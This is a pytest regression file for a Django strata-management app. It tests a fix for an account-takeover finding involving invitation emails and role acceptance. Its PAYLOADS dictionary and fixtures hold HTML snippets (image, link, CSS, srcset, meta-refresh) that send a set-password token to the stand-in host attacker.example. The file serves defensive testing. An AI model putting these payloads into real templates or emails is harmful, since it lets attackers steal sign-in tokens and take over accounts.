"""Sign-in secrets in invitations (security finding High 1: account takeover).

- No strata's template override can carry a set-password link anywhere: emails that carry one
  cannot be overridden (saving is refused, an older row is ignored), and the editable
  invitation is not given the link at all.
- A role given to an account that already exists grants nothing until its holder, signed in,
  accepts it; nobody else can accept it.
- Inviting an address says the same whether or not it has an account.
"""

import re

import pytest
from django.contrib.messages import get_messages
from django.core.exceptions import ValidationError
from django.urls import reverse
from django.utils.encoding import force_bytes
from django.utils.http import urlsafe_base64_encode

from accounts.models import AuditLog, StrataMembership, User
from accounts.permissions import Right, can
from accounts.services import membership_invite
from communications.email_templates import render_email
from communications.models import EmailTemplate, OutboundEmail
from communications.services import email_template_save
from tests.accounts.factories import UserFactory

pytestmark = pytest.mark.django_db

INVITATION = "accounts.invitation"
SET_PASSWORD = "accounts.invitation_set_password"
VICTIM = "victim@example.test"
ATTACKER = "attacker.example"

# Each puts the set-password link into a request to another host when the email is opened.
PAYLOADS = {
    "img_src": '<img src="https://attacker.example/p.gif?t={{ set_password_url }}">',
    "a_href": '<a href="https://attacker.example/a?t={{ set_password_url }}">Set it</a>',
    "link_href": '<link rel=stylesheet href="https://attacker.example/s?{{ set_password_url }}">',
    "style_attribute_url": (
        '<div style="background:url(https://attacker.example/b?t={{ set_password_url }})">Hi</div>'
    ),
    "style_element_url": (
        "<style>body{background:url(https://attacker.example/c?t={{ set_password_url }})}</style>"
    ),
    "srcset": '<img srcset="https://attacker.example/s?t={{ set_password_url }} 1x">',
    "meta_refresh": (
        '<meta http-equiv="refresh" '
        'content="0;url=https://attacker.example/r?t={{ set_password_url }}">'
    ),
}


def set_password_link(body: str) -> list[str]:
    return re.findall(r"http://127\.0\.0\.1:8000/accounts/reset/[^\s\"'<>)]+", body)


def override_row(strata, name, body_html, manager):
    """A row saved before the fix, when nothing checked the HTML body."""
    return EmailTemplate.objects.create(
        strata=strata,
        name=name,
        version=1,
        subject="Welcome to {{ strata_name }}",
        body_text="Hello {{ recipient_name }} https://attacker.example/t?{{ set_password_url }}",
        body_html=body_html,
        created_by=manager,
    )


def invitation_of(address: str) -> OutboundEmail:
    return OutboundEmail.objects.get(to_address=address, template_name__startswith=INVITATION)


def assert_only_the_system_link(email: OutboundEmail, user) -> None:
    uid = urlsafe_base64_encode(force_bytes(user.pk))
    for body in (email.body_text, email.body_html):
        assert ATTACKER not in body
        [link] = set_password_link(body)  # exactly once, in the system's own wording
        assert link.startswith(f"http://127.0.0.1:8000/accounts/reset/{uid}/")


# --- (a) no override carries a sign-in secret --------------------------------------------------


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS.keys())
@pytest.mark.parametrize("name", [INVITATION, SET_PASSWORD])
def test_an_override_carrying_the_set_password_link_cannot_be_saved(
    other_strata, other_manager, name, payload
):
    with pytest.raises(ValidationError):
        email_template_save(
            strata=other_strata,
            name=name,
            subject="Welcome to {{ strata_name }}",
            body_text="Hello {{ recipient_name }}",
            body_html=payload,
            actor=other_manager,
        )
    assert not EmailTemplate.objects.exists()
    assert not AuditLog.objects.filter(action="email_template.saved").exists()


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS.keys())
def test_an_old_override_cannot_send_a_new_accounts_link_elsewhere(
    other_strata, other_manager, payload
):
    override_row(other_strata, INVITATION, payload, other_manager)

    membership_invite(
        strata=other_strata, email=VICTIM, full_name="Vic Tim", role="council", actor=other_manager
    )

    email = invitation_of(VICTIM)
    assert_only_the_system_link(email, User.objects.get(email=VICTIM))
    assert (email.template_name, email.template_version) == (SET_PASSWORD, None)


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS.keys())
def test_inviting_another_stratas_passwordless_invitee_sends_no_link_elsewhere(
    strata, manager, other_strata, other_manager, payload
):
    """The finding: A invited the address; B's manager, with B's override, invites it too."""
    membership_invite(
        strata=strata, email=VICTIM, full_name="Vic Tim", role="council", actor=manager
    )
    OutboundEmail.objects.all().delete()
    override_row(other_strata, INVITATION, payload, other_manager)
    override_row(other_strata, SET_PASSWORD, payload, other_manager)

    membership_invite(
        strata=other_strata, email=VICTIM, full_name="x", role="caretaker", actor=other_manager
    )

    assert_only_the_system_link(invitation_of(VICTIM), User.objects.get(email=VICTIM))


def test_an_old_override_of_an_email_with_a_secret_is_ignored_when_rendering(strata, manager):
    override_row(strata, SET_PASSWORD, PAYLOADS["img_src"], manager)
    EmailTemplate.objects.create(
        strata=strata,
        name="accounts.password_reset",
        version=1,
        subject="Reset",
        body_text="{{ reset_url }}",
        body_html='<img src="https://attacker.example/{{ reset_url }}">',
        created_by=manager,
    )
    reset = render_email(
        "accounts.password_reset",
        strata=strata,
        context={"recipient_name": "A", "reset_url": "https://x.test/r/", "login_email": "a@x"},
    )
    assert (reset.subject, reset.template_version) == ("Reset your StrataTracker password", None)
    assert ATTACKER not in reset.body_html


def test_the_editor_refuses_an_email_with_a_sign_in_link_and_says_why(client, strata, manager):
    client.force_login(manager)
    edit = reverse("admin:communications_emailtemplate_edit", args=[strata.pk, SET_PASSWORD])

    response = client.post(
        edit,
        {
            "subject": "Hi",
            "body_text": "Hi",
            "body_html": PAYLOADS["img_src"],
            "_save": "1",
        },
    )

    assert response.status_code == 302
    assert response["Location"] == reverse("admin:communications_emailtemplate_changelist")
    [message] = [str(m) for m in get_messages(response.wsgi_request)]
    assert "carries a sign-in link (set_password_url)" in message
    assert "cannot have a strata version" in message
    assert not EmailTemplate.objects.exists()
    listing = client.get(reverse("admin:communications_emailtemplate_changelist"))
    fixed = {row["template"].name for row in listing.context["fixed"]}
    assert fixed == {
        SET_PASSWORD,
        "accounts.password_reset",
        "accounts.approval_rule_changed",
        "properties.sign_in_link",
        "violations.fresh_case_link",
    }
    assert {row["template"].name for row in listing.context["rows"]}.isdisjoint(fixed)
    assert "Sent as written: not editable" in listing.text


# --- (b) a role given to an existing account waits for its holder ------------------------------


def test_a_pre_claimed_account_gets_nothing_from_another_strata_until_it_accepts(
    client, strata, manager, other_strata, other_manager
):
    # B's manager invites the address first and (having captured the link) sets its password.
    membership_invite(
        strata=other_strata, email=VICTIM, full_name="Vic", role="caretaker", actor=other_manager
    )
    claimed = User.objects.get(email=VICTIM)
    claimed.set_password("attacker-chosen-password")
    claimed.save()

    granted = membership_invite(
        strata=strata, email=VICTIM, full_name="Vic Tim", role="council", actor=manager
    )

    assert granted.accepted_at is None
    fresh = User.objects.get(pk=claimed.pk)
    assert not can(fresh, Right.VIEW_REGISTER, strata)
    assert not can(fresh, Right.APPROVE_NOTICES, strata)
    client.force_login(fresh)
    assert client.get(reverse("admin:accounts_strata_change", args=[strata.pk])).status_code in (
        302,
        403,
        404,
    )
    email = OutboundEmail.objects.get(about=granted.uuid)
    assert email.template_name == INVITATION
    assert set_password_link(email.body_text) == []
    assert reverse("membership_accept", args=[granted.uuid]) in email.body_text


def test_only_the_invited_account_signed_in_can_accept_a_role(
    client, strata, manager, other_manager
):
    existing = UserFactory(email=VICTIM, full_name="Vic Tim")
    granted = membership_invite(
        strata=strata, email=VICTIM, full_name="Vic Tim", role="council", actor=manager
    )
    url = reverse("membership_accept", args=[granted.uuid])

    anonymous = client.post(url)
    assert anonymous.status_code == 302
    assert anonymous["Location"].startswith(reverse("membership_accept_login"))
    assert client.get(anonymous["Location"]).status_code == 200
    signed_in = client.post(
        anonymous["Location"],
        {"username": VICTIM, "password": "correct horse battery staple", "next": url},
    )
    assert (signed_in.status_code, signed_in["Location"]) == (302, url)
    client.logout()

    client.force_login(other_manager)
    assert client.get(url).status_code == 404
    assert client.post(url).status_code == 404
    granted.refresh_from_db()
    assert granted.accepted_at is None
    assert not AuditLog.objects.filter(action="membership.accepted").exists()

    client.force_login(existing)
    assert client.get(url).status_code == 200
    granted.refresh_from_db()
    assert granted.accepted_at is None  # a GET changes nothing
    accepted = client.post(url)

    assert accepted.status_code == 302
    granted.refresh_from_db()
    assert granted.accepted_at is not None
    audit = AuditLog.objects.get(action="membership.accepted")
    assert (audit.actor, audit.strata) == (existing, strata)
    assert can(User.objects.get(pk=existing.pk), Right.APPROVE_NOTICES, strata)


def test_a_new_accounts_first_role_is_in_force_once_its_password_is_set(strata, manager):
    granted = membership_invite(
        strata=strata, email=VICTIM, full_name="Vic Tim", role="council", actor=manager
    )
    assert granted.accepted_at is not None
    assert set_password_link(invitation_of(VICTIM).body_text) != []


# --- (c) an invitation reveals nothing about the account ---------------------------------------


def test_inviting_says_the_same_for_a_new_an_existing_and_a_deactivated_address(
    client, strata, manager
):
    UserFactory(email="existing@example.test", full_name="Eve Existing")
    UserFactory(email="gone@example.test", full_name="Gary Gone", is_active=False)
    client.force_login(manager)

    said = {}
    for address in ("new@example.test", "existing@example.test", "gone@example.test"):
        response = client.post(
            reverse("admin:accounts_stratamembership_add"),
            {
                "email": address,
                "full_name": "Typed Name",
                "strata": strata.pk,
                "role": "council",
                "starts_on": "2026-01-01",
            },
            follow=True,
        )
        assert response.status_code == 200
        said[address] = [str(m).replace(address, "ADDRESS") for m in response.context["messages"]]
        assert "Eve Existing" not in response.text
        assert "Gary Gone" not in response.text

    assert said["new@example.test"] == said["existing@example.test"] == said["gone@example.test"]
    assert said["new@example.test"] == [
        "ADDRESS is invited as Council member of Harbour View. The role starts once they "
        "accept the invitation sent to that address."
    ]
    invited = StrataMembership.objects.filter(strata=strata, role="council", accepted_at=None)
    assert set(invited.values_list("user__email", flat=True)) == {
        "existing@example.test",
        "gone@example.test",
    }
